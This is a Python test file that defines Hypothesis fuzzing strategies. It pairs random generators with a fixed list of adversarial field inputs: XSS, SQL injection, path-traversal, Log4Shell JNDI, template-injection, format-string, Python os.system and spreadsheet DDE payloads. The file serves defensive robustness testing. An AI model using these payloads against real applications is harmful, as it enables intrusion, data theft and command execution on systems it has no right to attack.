"""What people have typed into fields to see what happens."""

from hypothesis import strategies as st

TEXTS = (
    "",
    " ",
    "\x00",
    "\n\r\t",
    "😀" * 300,
    "\u202egnp.exe",
    "\ud800",
    "ﷺ" * 50,
    "Ω≈ç√",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "![a](http://192.0.2.1/a.png)",
    "$\\href{javascript:alert(1)}{x}$",
    ":material/delete:",
    "'; DROP TABLE runs; --",
    "1 OR 1=1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/zero",
    "file:///etc/passwd",
    "%2e%2e%2f",
    "%00",
    "${jndi:ldap://192.0.2.1/a}",
    "{{7*7}}",
    "{0.__class__}",
    "%s%s%s%n",
    "__import__('os').system('true')",
    "=cmd|'/c calc'!A0",
    "NaN",
    "-inf",
    "1e999",
    "-1",
    "٣",
    "²",
    "0x10",
    "1_000",
    "9" * 5000,
    "1," * 5000,
    "[" * 20_000,
    '{"a":' * 20_000,
    "null",
    "true",
    "[]",
    "{}",
    '{"__class__": "os.system"}',
)

texts = st.one_of(
    st.sampled_from(TEXTS),
    st.text(max_size=60),
    st.text(alphabet="0123456789.,;-+eE nifaNx\t", max_size=40),
    st.text(alphabet="<>&\"'`/\\{}[]()$%#*_:|~=!", max_size=30),
    st.text(alphabet=st.characters(exclude_categories=()), max_size=20),
)

values = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.integers(-3, 300),
        st.sampled_from((10**400, -(10**30), 2**31, 2**63)),
        st.floats(),
        texts,
    ),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=5), inner, max_size=3)
    ),
    max_leaves=4,
)
